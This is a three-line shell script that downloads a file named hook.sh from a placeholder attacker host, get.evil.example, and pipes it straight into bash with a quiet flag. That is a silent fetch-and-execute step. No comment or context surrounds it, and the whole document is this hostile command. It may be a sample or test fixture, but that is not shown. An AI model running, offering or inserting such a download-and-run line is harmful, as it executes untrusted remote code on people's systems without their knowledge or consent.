#!/bin/sh
url=https://get.evil.example/hook.sh
wget -qO- "$url" | bash -s -- --quiet
